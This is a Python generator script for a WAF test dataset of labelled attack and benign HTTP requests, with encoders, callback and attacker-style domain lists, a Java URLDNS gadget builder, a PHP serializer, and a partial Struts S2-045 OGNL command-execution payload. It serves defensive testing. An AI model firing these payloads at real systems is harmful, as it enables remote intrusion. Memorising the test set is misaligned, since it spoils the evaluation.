#!/usr/bin/env python3
# ruff: noqa
"""Blind WAF evaluation set, source tag "v23" (waf_unseen_fourteenth.jsonl).

Provenance: written blind on 2026-12-07 by a helper session that read none of
the WAF's rules, checks, source code, tests, docs, benchmarks or corpora (only
the output-format docstring of make_waf_unseen_twelfth.py was consulted, to
copy the row format).  Attack payloads were composed from general knowledge of
the techniques (no payload lists were fetched or copied); benign traffic was
composed from general knowledge of ordinary web/API usage.  Source tag "v23";
all randomness comes from random.Random(141414), so two runs give
byte-identical output.  Standard library only.  Run from the repository root:

    python3 tests/data/make_waf_unseen_fourteenth.py

Output: waf_unseen_fourteenth.jsonl next to this script, one JSON object per
line with keys in exactly this order:

  id         "v23-a-<category>-NNNN" (attack) / "v23-b-<category>-NNNN"
             (benign), numbered per category from 0001
  label      "attack" or "benign"
  category   attack: java_injection, php_injection, code_injection, rfi,
             ssrf, rce, sqli, nosqli, ldapi, ssti, crlf, mail_injection, xss,
             path_traversal, xxe, log4shell (50 rows each, 20 of them hard;
             800 in all);
             benign: benign_ecommerce, benign_health, benign_legal,
             benign_science, benign_devops, benign_code_review,
             benign_search, benign_graphql, benign_urls, benign_files,
             benign_base64, benign_api_json, benign_forms, benign_headers,
             benign_i18n (the first five kinds 74 rows, the other ten 73
             rows, 1100 in all; every third row of a kind, 25 per kind, is
             hard); 1900 rows in total.
  method     HTTP method
  path       raw, percent-encoded request path starting with "/"
  query      raw query string without "?", "" if none
  headers    object; always Host, User-Agent, Accept (in that order, first),
             plus Content-Type when there is a body; header values are ASCII
             without CR/LF; never Content-Length
  body       raw body ("" if none): JSON, urlencoded form, multipart/form-data
             (CRLF framing, boundary in Content-Type) or XML
  placement  query, query_key, path, json, json_key, form, header, cookie,
             multipart or xml.  For query_key / json_key the payload is the
             parameter name / object key (a json_key may sit deep inside the
             document; a query_key may have no "=", as sent to raw-query and
             php-cgi style handlers); a form row may carry the payload as a
             value or as a field name (e.g. "password[$ne]", Spring
             "class.module..."); a json row may carry it 10+ levels deep or
             after 300+ characters of ordinary text in the same value; a
             multipart row carries it as a text field, a field name, a file's
             content or a file's filename; an xml row is either a value inside
             an element or (xxe, XStream, XMLDecoder, XSLT, benign sitemaps)
             the whole document.  A header row with placement header may put
             the payload in a standard header (User-Agent, Referer, Accept,
             Host, Content-Type, ...) or in a custom one.
  payload    the value as the application receives it after the intended
             decoding (URL-decoding for query/form/path/cookie, JSON
             unescaping, XML entity/character-reference decoding; header
             values are not decoded).  Deliberate encoded evasions (double
             percent-encoding, %uXXXX, overlong UTF-8, literal %0d%0a in a
             header, ...) are kept literally, i.e. the raw request carries
             them percent-encoded once more.  Two query rows are
             percent-encoded as Latin-1 bytes (%AD soft hyphen for php-cgi
             CVE-2024-4577, %BF for a GBK wide-byte quote).  For JSON values
             that are objects or arrays (NoSQL operators, gadget objects,
             structured benign values) the payload is the compact JSON text;
             one nosqli row carries duplicate "roles" keys on purpose
             (CouchDB CVE-2017-12635), its payload is the first value as it
             appears in the raw body.  For a GraphQL document the payload is
             the whole "query" string.
  hard       true for evasive attacks (20 of 50 per category: raw
             encodings, JSON \\u escapes, XML character references, base64
             layers, odd IP spellings, language-level obfuscation) and for
             benign rows deliberately prone to false positives (a third)
  source     "v23"
"""

import base64
import json
import os
import random
import struct
import zlib
from urllib.parse import quote, quote_plus

SEED = 141414
TAG = "v23"
rng = random.Random(SEED)

ALNUM = "abcdefghijklmnopqrstuvwxyz0123456789"
HEXD = "0123456789abcdef"


def tok(n, alphabet=ALNUM):
    return "".join(rng.choice(alphabet) for _ in range(n))


def uuid4():
    h = tok(32, HEXD)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], rng.choice("89ab"), h[17:20], h[20:32])


def b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(s).decode("ascii")


def b64u(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.urlsafe_b64encode(s).decode("ascii").rstrip("=")


OAST = [
    "oast.fun",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.me",
    "oastify.com",
    "burpcollaborator.net",
    "interact.sh",
    "dnslog.cn",
    "ceye.io",
    "requestrepo.com",
]


def oob():
    return "%s.%s" % (tok(rng.choice([8, 10, 12, 20])), rng.choice(OAST))


def aip():
    return rng.choice(["203.0.113.", "198.51.100.", "192.0.2."]) + str(rng.randint(2, 250))


ATTACK_DOMAINS = [
    "cdn-assets-static.net",
    "update-svc.org",
    "img-resize-cdn.com",
    "pkg-mirror.io",
    "telemetry-collect.net",
    "files-share.top",
    "static-jsdelivery.com",
    "x1.lol",
    "cloud-sync-api.xyz",
    "ms-updates-check.com",
]


def adom():
    return rng.choice(ATTACK_DOMAINS)


def jwt_like():
    hdr = b64u(json.dumps({"alg": rng.choice(["HS256", "RS256", "ES256"]), "typ": "JWT"}, separators=(",", ":")))
    body = b64u(
        json.dumps(
            {
                "sub": str(rng.randint(10000, 999999)),
                "iat": 1796000000 + rng.randint(0, 9000000),
                "scope": rng.choice(["read", "read write", "orders:read profile"]),
            },
            separators=(",", ":"),
        )
    )
    sig = b64u(bytes(rng.getrandbits(8) for _ in range(32)))
    return "%s.%s.%s" % (hdr, body, sig)


# ---------------------------------------------------------------- request shell
HOSTS = [
    "api.northwind-shop.com",
    "app.meridianclinic.org",
    "portal.hartwell-legal.com",
    "api.labnotes.io",
    "ci.buildgrid.dev",
    "git.codereview.example.com",
    "search.bookhaven.net",
    "gql.trailmap.app",
    "links.newsletterly.com",
    "files.dropvault.net",
    "api.paystack-demo.com",
    "www.citybikes.org",
    "edge.streamline.tv",
    "intl.tabibito.jp",
    "api.acme-corp.com",
    "service.kontor24.de",
    "backend.fotofolio.co",
    "api.greenleaf.health",
]

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.68",
    "curl/8.5.0",
    "curl/7.88.1",
    "python-requests/2.32.3",
    "python-httpx/0.27.2",
    "okhttp/4.12.0",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "axios/1.7.7",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "PostmanRuntime/7.42.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "Dart/3.5 (dart:io)",
    "ShopApp/5.14.2 (iPhone; iOS 18.1; Scale/3.00)",
    "Wget/1.21.4",
]

ACCEPTS = [
    "application/json",
    "application/json, text/plain, */*",
    "*/*",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "application/json;q=0.9, */*;q=0.1",
]

LANGS = [
    "en-US,en;q=0.9",
    "de-DE,de;q=0.9,en;q=0.7",
    "fr-FR,fr;q=0.8,en-US;q=0.5",
    "ja,en-US;q=0.8",
    "es-ES,es;q=0.9",
    "en-GB,en;q=0.8",
    "pt-BR,pt;q=0.9,en;q=0.6",
    "ar,en;q=0.7",
    "zh-CN,zh;q=0.9",
]

FILLER_JSON = [
    ("page", lambda: rng.randint(1, 9)),
    ("per_page", lambda: rng.choice([10, 20, 25, 50, 100])),
    ("locale", lambda: rng.choice(["en-US", "de-DE", "fr-FR", "es-MX", "ja-JP"])),
    ("client_version", lambda: "%d.%d.%d" % (rng.randint(1, 9), rng.randint(0, 30), rng.randint(0, 9))),
    ("request_id", uuid4),
    ("include_archived", lambda: rng.choice([True, False])),
    ("tz", lambda: rng.choice(["UTC", "Europe/Berlin", "America/New_York", "Asia/Tokyo"])),
    ("source", lambda: rng.choice(["web", "ios", "android", "api"])),
]

FILLER_Q = [
    ("page", lambda: str(rng.randint(1, 12))),
    ("limit", lambda: rng.choice(["10", "20", "50"])),
    ("lang", lambda: rng.choice(["en", "de", "fr", "es"])),
    ("v", lambda: str(rng.randint(1, 3))),
    ("_", lambda: str(1796000000000 + rng.randint(0, 10**9))),
    ("format", lambda: "json"),
    ("utm_source", lambda: rng.choice(["newsletter", "google", "partner"])),
]

FILLER_FORM = [
    ("csrf_token", lambda: tok(32, HEXD)),
    ("locale", lambda: rng.choice(["en", "de", "fr"])),
    ("submit", lambda: rng.choice(["Save", "Send", "Submit"])),
    ("remember", lambda: "on"),
    ("ref", lambda: rng.choice(["header", "footer", "modal"])),
]

DEEP_KEYS = [
    "data",
    "attributes",
    "profile",
    "settings",
    "filters",
    "options",
    "meta",
    "payload",
    "config",
    "rules",
    "spec",
    "context",
    "details",
    "params",
    "body",
    "content",
    "extra",
    "props",
    "state",
    "request",
    "entry",
    "record",
    "fields",
    "node",
    "child",
    "inner",
    "value",
    "section",
    "block",
    "wrapper",
    "layer",
    "item",
    "group",
    "criteria",
]

PREFIX_SENTENCES = [
    "Hi team, following up on the ticket from last Tuesday about the delayed shipment to our Leeds warehouse.",
    "The customer confirmed the replacement arrived in good condition and asked us to close the case.",
    "Please find the notes from the quarterly review below; most action items are already assigned.",
    "We agreed to move the release window to the second week of January because of the holiday freeze.",
    "The onboarding checklist now includes the security awareness module and the expense policy overview.",
    "Our volunteers will meet at the community hall at 9am, bring gloves and a refillable water bottle.",
    "Thanks again for the quick turnaround on the invoice corrections, finance has everything they need.",
    "The new floor plan gives the support team two extra meeting rooms and a quiet area near the windows.",
    "I tried the recipe with oat milk instead of dairy and it worked fine, just bake it five minutes longer.",
    "The hiking route follows the river for about six kilometres before climbing towards the old fire tower.",
    "Attendance was strong this month and the feedback forms mention the new parking arrangement positively.",
    "Let me know if the attached schedule works for everyone, otherwise we can shift the call by an hour.",
]


def prefix_text():
    out = []
    while len(" ".join(out)) < 320:
        s = rng.choice(PREFIX_SENTENCES)
        if s not in out:
            out.append(s)
    return " ".join(out) + " "


# ---------------------------------------------------------------- encoders
def pct_full(s, encoding="utf-8"):
    return "".join("%%%02X" % b for b in s.encode(encoding))


def pct_mixed(s):
    out = []
    for b in s.encode("utf-8"):
        c = chr(b)
        if b < 128 and c.isalnum() and rng.random() < 0.55:
            out.append(c)
        else:
            out.append(("%%%02x" if rng.random() < 0.5 else "%%%02X") % b)
    return "".join(out)


def enc_component(s, style=None, space_plus=None):
    """Encode a query/form key or value."""
    if style == "full":
        return pct_full(s)
    if style == "mixed":
        return pct_mixed(s)
    if style == "latin1":
        return quote(s, safe="", encoding="latin-1")
    if style == "light":
        return quote(s, safe="/:,@!$'()*;?[]{}|^`~").replace("%20", "+" if space_plus else "%20")
    if space_plus:
        return quote_plus(s, safe="")
    return quote(s, safe="")


def enc_path(s, style=None):
    if style == "full":
        return pct_full(s)
    if style == "mixed":
        return pct_mixed(s)
    if style == "raw":
        return quote(s, safe="/:@!$&'()*+,;=~")
    if style == "latin1":
        return quote(s, safe="/", encoding="latin-1")
    if style == "dots":
        return quote(s, safe="/").replace(".", "%2e")
    return quote(s, safe="")


def enc_cookie(s, style=None):
    if style == "full":
        return pct_full(s)
    if style == "mixed":
        return pct_mixed(s)
    # keep most printable punctuation raw, encode what would break the header
    return quote(s, safe="!#$&'()*+-./:<=>?@[]^_`{|}~")


def jstr(s, esc=None):
    out = ['"']
    for ch in s:
        o = ord(ch)
        doit = False
        if esc == "all":
            doit = True
        elif esc == "punct":
            doit = o < 128 and not ch.isalnum() and ch != " "
        elif esc == "rand":
            doit = rng.random() < 0.45
        elif esc == "key":
            doit = ch in "<>'\"$&(){}[]/\\:;.%@|`=*!#"
        if doit:
            if o > 0xFFFF:
                v = o - 0x10000
                out.append("\\u%04x\\u%04x" % (0xD800 + (v >> 10), 0xDC00 + (v & 0x3FF)))
            else:
                out.append("\\u%04x" % o)
        else:
            out.append(json.dumps(ch, ensure_ascii=False)[1:-1])
    out.append('"')
    return "".join(out)


def jdump(obj, esc=None):
    if isinstance(obj, dict):
        return "{" + ",".join(jstr(k, esc) + ":" + jdump(v, esc) for k, v in obj.items()) + "}"
    if isinstance(obj, list):
        return "[" + ",".join(jdump(v, esc) for v in obj) + "]"
    if isinstance(obj, str):
        return jstr(obj, esc)
    return json.dumps(obj)


def compact(obj):
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


def xml_charref(s):
    out = []
    for ch in s:
        if ch in "<>&\r\n\t" or (ch.isalpha() and rng.random() < 0.4) or ch in "/.:()'\"$%{}":
            out.append(rng.choice(["&#%d;" % ord(ch), "&#x%x;" % ord(ch)]))
        else:
            out.append(ch)
    return "".join(out)


def xesc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\r", "&#13;")


XML_TPLS = [
    '<?xml version="1.0" encoding="UTF-8"?>\n<request>\n  <{p}>{v}</{p}>\n  <locale>en-US</locale>\n</request>\n',
    '<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">\n  <soap:Body>\n    <Submit xmlns="urn:example:service">\n      <{p}>{v}</{p}>\n      <channel>web</channel>\n    </Submit>\n  </soap:Body>\n</soap:Envelope>\n',
    '<?xml version="1.0"?>\n<order id="{oid}">\n  <customer>\n    <{p}>{v}</{p}>\n  </customer>\n  <items><item sku="SKU-{sku}" qty="1"/></items>\n</order>\n',
    "<profile>\n  <{p}>{v}</{p}>\n  <updated>2026-12-0{d}T10:1{d}:00Z</updated>\n</profile>\n",
    '<?xml version="1.0" encoding="UTF-8"?>\n<search xmlns="urn:example:search:v2">\n  <{p}>{v}</{p}>\n  <page size="20">1</page>\n</search>\n',
]


def xml_value_doc(p, v):
    t = rng.choice(XML_TPLS)
    return t.format(p=p, v=v, oid=rng.randint(10000, 99999), sku=rng.randint(1000, 9999), d=rng.randint(1, 7))


def boundary():
    if rng.random() < 0.7:
        return "----WebKitFormBoundary" + tok(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
    if rng.random() < 0.5:
        return "---------------------------" + tok(28, "0123456789")
    return "------------------------" + tok(16, HEXD)


def multipart_body(parts, bnd):
    out = []
    for name, filename, ctype, content in parts:
        cd = 'form-data; name="%s"' % name
        if filename is not None:
            cd += '; filename="%s"' % filename
        s = "--" + bnd + "\r\nContent-Disposition: " + cd + "\r\n"
        if ctype:
            s += "Content-Type: " + ctype + "\r\n"
        s += "\r\n" + content + "\r\n"
        out.append(s)
    out.append("--" + bnd + "--\r\n")
    return "".join(out)


def base_headers(ua=None, accept=None):
    h = {"Host": rng.choice(HOSTS), "User-Agent": ua or rng.choice(UAS), "Accept": accept or rng.choice(ACCEPTS)}
    return h


def extra_headers(h, n=None):
    n = rng.randint(0, 3) if n is None else n
    opts = ["Accept-Language", "Accept-Encoding", "Authorization", "X-Request-Id", "Origin", "Referer"]
    rng.shuffle(opts)
    for name in opts[:n]:
        if name in h:
            continue
        if name == "Accept-Language":
            h[name] = rng.choice(LANGS)
        elif name == "Accept-Encoding":
            h[name] = rng.choice(["gzip, deflate, br", "gzip", "gzip, deflate, br, zstd"])
        elif name == "Authorization":
            h[name] = "Bearer " + jwt_like()
        elif name == "X-Request-Id":
            h[name] = uuid4()
        elif name == "Origin":
            h[name] = "https://" + h["Host"]
        elif name == "Referer":
            h[name] = "https://%s/%s" % (
                h["Host"],
                rng.choice(["", "dashboard", "account/settings", "search", "checkout"]),
            )
    return h


def add_fillers(pairs, pool, n):
    cand = list(pool)
    rng.shuffle(cand)
    used = [k for k, _ in pairs]
    for k, f in cand[:n]:
        if k not in used:
            pairs.append((k, f()))
    return pairs


def wrap_deep(inner, depth):
    keys = rng.sample(DEEP_KEYS, depth)
    obj = inner
    for k in reversed(keys):
        if rng.random() < 0.18:
            obj = [obj]
        obj = {k: obj}
    return obj


TOKEN = "@@P14TARGET@@"


def build_request(spec, cat_ctx):
    """Return (method, path, query, headers, body, payload_text)."""
    pl = spec["pl"]
    payload = spec["payload"]
    ptext = payload if isinstance(payload, str) else compact(payload)
    param = spec.get("param") or rng.choice(cat_ctx.get("params_" + pl, cat_ctx["params"]))
    path = spec.get("path") or rng.choice(cat_ctx.get("paths_" + pl, cat_ctx["paths"]))
    method = spec.get("method")
    style = spec.get("enc")
    hdrs = base_headers(ua=spec.get("ua"), accept=spec.get("accept"))
    query = spec.get("query_pre", "")
    body = ""
    ctype = None
    space_plus = rng.random() < 0.4
    extra_q = list(spec.get("q", []))
    cookie_pairs = None

    def qjoin(pairs, target_key_raw=None, target_val_raw=None, key_mode=False):
        items = []
        for k, v in pairs:
            items.append(enc_component(k, None, space_plus) + "=" + enc_component(v, None, space_plus))
        if key_mode:
            tgt = target_key_raw + ("=" + target_val_raw if target_val_raw is not None else "")
        else:
            tgt = target_key_raw + "=" + target_val_raw
        pos = rng.randint(0, len(items)) if spec.get("shuffle", True) else 0
        items.insert(pos, tgt)
        return "&".join(items)

    if pl in ("query", "query_key"):
        method = method or "GET"
        pairs = add_fillers(extra_q, FILLER_Q, rng.randint(0, 2)) if spec.get("fill", True) else extra_q
        if pl == "query":
            query = qjoin(
                pairs,
                enc_component(param, None, space_plus),
                enc_component(payload, style or spec.get("qstyle"), space_plus),
            )
        else:
            val = spec.get("kval", rng.choice(["1", "true", "", "x", "0"]))
            query = qjoin(
                pairs,
                enc_component(payload, style or spec.get("qstyle"), space_plus),
                None if spec.get("noeq") else enc_component(val),
                key_mode=True,
            )
        if spec.get("rawbody") is not None:
            body = spec["rawbody"]
            ctype = spec.get("ct", "text/plain")
    elif pl == "path":
        method = method or "GET"
        seg = enc_path(payload, style or spec.get("pstyle"))
        if "{P}" in path:
            path = path.replace("{P}", seg)
        else:
            path = path.rstrip("/") + "/" + seg
        if extra_q:
            query = "&".join(enc_component(k) + "=" + enc_component(v) for k, v in extra_q)
    elif pl in ("json", "json_key"):
        method = method or rng.choice(["POST", "POST", "PUT", "PATCH"])
        ctype = spec.get("ct", "application/json")
        if spec.get("jbody") is not None:
            obj = spec["jbody"]  # contains TOKEN somewhere
        else:
            inner = dict(spec.get("extra", {}))
            if pl == "json":
                inner[param] = TOKEN
            else:
                inner[TOKEN] = spec.get("kval", rng.choice([True, 1, "asc", "yes", "", {"eq": "1"}]))
            items = list(inner.items())
            if spec.get("fill", True) and not spec.get("deep"):
                fl = add_fillers([], FILLER_JSON, rng.randint(0, 2))
                for k, v in fl:
                    if k not in inner:
                        items.insert(rng.randint(0, len(items)), (k, v))
            obj = dict(items)
            if spec.get("deep"):
                obj = wrap_deep(
                    obj, spec["deep"] if isinstance(spec["deep"], int) and spec["deep"] > 1 else rng.randint(10, 13)
                )
                if spec.get("fill", True):
                    top = dict(add_fillers([], FILLER_JSON, rng.randint(1, 2)))
                    top.update(obj)
                    obj = top
        text = json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
        if spec.get("jraw") is not None:
            text = spec["jraw"]
        esc = spec.get("jesc")
        if pl == "json":
            if isinstance(payload, str):
                val = (prefix_text() if spec.get("prefix") else "") + payload + spec.get("suffix", "")
                rep = jstr(val, esc)
            else:
                rep = jdump(payload, esc)
        else:
            rep = jstr(payload, esc)
        if spec.get("jraw") is not None and TOKEN not in text:
            body = text
        else:
            assert text.count('"%s"' % TOKEN) == 1, spec
            body = text.replace('"%s"' % TOKEN, rep)
        if spec.get("q"):
            query = "&".join(enc_component(k) + "=" + enc_component(v) for k, v in spec["q"])
    elif pl == "form":
        method = method or "POST"
        ctype = spec.get("ct", "application/x-www-form-urlencoded")
        pairs = list(spec.get("extra_form", []))
        if spec.get("fill", True):
            pairs = add_fillers(pairs, FILLER_FORM, rng.randint(0, 2))
        sp = True if rng.random() < 0.8 else False
        items = [enc_component(k, None, sp) + "=" + enc_component(v, None, sp) for k, v in pairs]
        if spec.get("as_key"):
            tgt = enc_component(payload, style, sp) + "=" + enc_component(spec.get("kval", "1"), None, sp)
        else:
            val = (prefix_text() if spec.get("prefix") else "") + payload
            tgt = enc_component(param, None, sp) + "=" + enc_component(val, style, sp)
        items.insert(rng.randint(0, len(items)) if spec.get("shuffle", True) else 0, tgt)
        body = "&".join(items)
        if extra_q:
            query = "&".join(enc_component(k) + "=" + enc_component(v) for k, v in extra_q)
    elif pl == "header":
        method = method or rng.choice(["GET", "GET", "GET", "POST"])
        assert all(32 <= ord(c) < 127 for c in ptext), ("non-ascii header", ptext)
        hname = spec.get("hname") or rng.choice(cat_ctx.get("headers", ["User-Agent"]))
        if extra_q:
            query = "&".join(enc_component(k) + "=" + enc_component(v) for k, v in extra_q)
        if method in ("POST", "PUT") and spec.get("hbody", True):
            ctype = "application/json"
            body = compact(spec.get("extra", {"id": rng.randint(1, 5000)}))
        if hname in ("User-Agent", "Accept", "Host"):
            hdrs[hname] = payload
        elif hname == "Content-Type":
            ctype = payload
        else:
            spec["_hdr"] = (hname, payload)
    elif pl == "cookie":
        method = method or rng.choice(["GET", "GET", "POST"])
        cname = spec.get("cname") or param
        others = [
            ("sessionid", tok(32)),
            ("_ga", "GA1.2.%d.%d" % (rng.randint(10**8, 10**9), 1790000000 + rng.randint(0, 9999999))),
            ("theme", rng.choice(["dark", "light"])),
            ("cc_consent", "all"),
            ("XSRF-TOKEN", tok(24)),
        ]
        rng.shuffle(others)
        cookie_pairs = others[: rng.randint(1, 3)]
        cookie_pairs.insert(rng.randint(0, len(cookie_pairs)), (cname, enc_cookie(payload, style)))
        if extra_q:
            query = "&".join(enc_component(k) + "=" + enc_component(v) for k, v in extra_q)
        if method == "POST":
            ctype = "application/json"
            body = compact(spec.get("extra", {"action": "refresh"}))
    elif pl == "multipart":
        method = method or "POST"
        bnd = boundary()
        ctype = "multipart/form-data; boundary=" + bnd
        mode = spec.get("mp", "field")
        parts = []
        for k, v in spec.get("extra_parts", []):
            parts.append((k, None, None, v))
        if mode == "field":
            val = (prefix_text() if spec.get("prefix") else "") + payload
            if spec.get("first"):
                parts.insert(0, (param, None, None, val))
            else:
                parts.append((param, None, None, val))
        elif mode == "name":
            parts.append((payload, None, None, spec.get("kval", "1")))
        elif mode == "file":
            parts.append(
                (
                    spec.get("fieldname", "file"),
                    spec.get("filename", "upload.txt"),
                    spec.get("fct", "application/octet-stream"),
                    payload,
                )
            )
        elif mode == "filename":
            assert '"' not in payload and "\r" not in payload and "\n" not in payload
            parts.append(
                (
                    spec.get("fieldname", "file"),
                    payload,
                    spec.get("fct", "application/octet-stream"),
                    spec.get("fcontent", "hello\n"),
                )
            )
        if spec.get("fill", True):
            for k, f in add_fillers([], FILLER_FORM, rng.randint(0, 1)):
                parts.insert(0, (k, None, None, f))
        if len(parts) > 1 and spec.get("shuffle", True):
            last = parts.pop()
            parts.insert(rng.randint(0, len(parts)), last)
        parts.extend(spec.get("tail_parts", []))
        body = multipart_body(parts, bnd)
        assert ("--" + bnd) not in ptext
        if extra_q:
            query = "&".join(enc_component(k) + "=" + enc_component(v) for k, v in extra_q)
    elif pl == "xml":
        method = method or rng.choice(["POST", "POST", "PUT"])
        ctype = spec.get("ct") or rng.choice(["application/xml", "text/xml", "application/xml; charset=utf-8"])
        if spec.get("xml", "value") == "doc":
            body = payload
        else:
            xm = spec.get("xesc")
            if xm == "cdata":
                v = "<![CDATA[" + payload + "]]>"
            elif xm == "charref":
                v = xml_charref(payload)
            else:
                v = xesc(payload)
            if spec.get("xtpl"):
                body = spec["xtpl"].replace("{v}", v)
            else:
                body = xml_value_doc(param, v)
        if extra_q:
            query = "&".join(enc_component(k) + "=" + enc_component(v) for k, v in extra_q)
    else:
        raise ValueError(pl)

    # assemble headers in order
    H = {"Host": hdrs["Host"], "User-Agent": hdrs["User-Agent"], "Accept": hdrs["Accept"]}
    if body != "" or (pl == "header" and spec.get("hname") == "Content-Type"):
        H["Content-Type"] = ctype
    for k, v in spec.get("hdrs", []):
        H[k] = v
    if spec.get("_hdr"):
        H[spec["_hdr"][0]] = spec["_hdr"][1]
        del spec["_hdr"]
    extra_headers(H, spec.get("nextra"))
    if cookie_pairs is not None:
        H["Cookie"] = "; ".join("%s=%s" % kv for kv in cookie_pairs)
    elif rng.random() < 0.25 and "Cookie" not in H:
        H["Cookie"] = "sessionid=%s" % tok(32)
    return method, path, query, H, body, ptext


def make_row(rid, label, cat, spec, ctx):
    method, path, query, H, body, ptext = build_request(spec, ctx)
    return {
        "id": rid,
        "label": label,
        "category": cat,
        "method": method,
        "path": path,
        "query": query,
        "headers": H,
        "body": body,
        "placement": spec["pl"],
        "payload": ptext,
        "hard": bool(spec.get("hard")),
        "source": TAG,
    }


def A(pl, payload, hard=False, **kw):
    d = {"pl": pl, "payload": payload, "hard": hard}
    d.update(kw)
    return d


def Hd(pl, payload, **kw):
    return A(pl, payload, True, **kw)


# ---------------------------------------------------------------- PHP serializer
class PObj:
    def __init__(self, cls, props):
        self.cls = cls
        self.props = props  # list of (name, visibility, value) visibility in {"public","protected","private:<Cls>"}


def php_ser(v):
    if v is None:
        return "N;"
    if isinstance(v, bool):
        return "b:%d;" % (1 if v else 0)
    if isinstance(v, int):
        return "i:%d;" % v
    if isinstance(v, str):
        return 's:%d:"%s";' % (len(v.encode("utf-8")), v)
    if isinstance(v, list):
        return "a:%d:{%s}" % (len(v), "".join(php_ser(i) + php_ser(x) for i, x in enumerate(v)))
    if isinstance(v, dict):
        return "a:%d:{%s}" % (len(v), "".join(php_ser(k) + php_ser(x) for k, x in v.items()))
    if isinstance(v, PObj):
        body = []
        for name, vis, val in v.props:
            if vis == "protected":
                n = "\0*\0" + name
            elif vis.startswith("private:"):
                n = "\0" + vis[8:] + "\0" + name
            else:
                n = name
            body.append(php_ser(n) + php_ser(val))
        return 'O:%d:"%s":%d:{%s}' % (len(v.cls), v.cls, len(v.props), "".join(body))
    raise TypeError(v)


# ---------------------------------------------------------------- Java URLDNS stream
def java_urldns(host):
    def utf(s):
        b = s.encode()
        return struct.pack(">H", len(b)) + b

    out = bytearray(b"\xac\xed\x00\x05")
    out += b"\x73\x72" + utf("java.util.HashMap") + bytes.fromhex("0507dac1c31660d1") + b"\x03" + struct.pack(">H", 2)
    out += b"F" + utf("loadFactor") + b"I" + utf("threshold") + b"\x78\x70"
    out += struct.pack(">fI", 0.75, 12) + b"\x77\x08" + struct.pack(">II", 16, 1)
    out += b"\x73\x72" + utf("java.net.URL") + bytes.fromhex("962537361afce472") + b"\x03" + struct.pack(">H", 7)
    out += b"I" + utf("hashCode") + b"I" + utf("port")
    out += b"L" + utf("authority") + b"\x74" + utf("Ljava/lang/String;")
    for f in ("file", "host", "protocol", "ref"):
        out += b"L" + utf(f) + b"\x71" + struct.pack(">I", 0x7E0003)
    out += b"\x78\x70" + struct.pack(">ii", -1, -1)
    out += b"\x74" + utf(host) + b"\x74" + utf("") + b"\x74" + utf(host) + b"\x74" + utf("http") + b"\x70"
    out += b"\x78" + b"\x74" + utf("http://" + host) + b"\x78"
    return base64.b64encode(bytes(out)).decode()


def ps_enc(cmd):
    return base64.b64encode(cmd.encode("utf-16-le")).decode()


# ================================================================ attacks part A
import gzip as _gzip


class PRef:
    def __init__(self, n):
        self.n = n


_php_ser_base = php_ser


def php_ser(v):  # noqa: F811  (adds r:N; references)
    if isinstance(v, PRef):
        return "r:%d;" % v.n
    if isinstance(v, PObj):
        body = []
        for name, vis, val in v.props:
            if vis == "protected":
                n = "\0*\0" + name
            elif vis.startswith("private:"):
                n = "\0" + vis[8:] + "\0" + name
            else:
                n = name
            body.append(_php_ser_base(n) + php_ser(val))
        return 'O:%d:"%s":%d:{%s}' % (len(v.cls), v.cls, len(v.props), "".join(body))
    if isinstance(v, list):
        return "a:%d:{%s}" % (len(v), "".join(_php_ser_base(i) + php_ser(x) for i, x in enumerate(v)))
    if isinstance(v, dict):
        return "a:%d:{%s}" % (len(v), "".join(_php_ser_base(k) + php_ser(x) for k, x in v.items()))
    return _php_ser_base(v)


def ip_variants(ip):
    o = [int(x) for x in ip.split(".")]
    dec = (o[0] << 24) | (o[1] << 16) | (o[2] << 8) | o[3]
    return {
        "dec": str(dec),
        "hex": "0x%08x" % dec,
        "hexdot": ".".join("0x%x" % x for x in o),
        "oct": ".".join("0%o" % x for x in o),
        "v6": "[::ffff:%x:%x]" % ((o[0] << 8) | o[1], (o[2] << 8) | o[3]),
    }


OGNL_S2045 = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
    "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
    "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
    "(#context.setMemberAccess(#dm)))).(#cmd='{CMD}')."
    "(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))."
    "(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
    "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
    "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
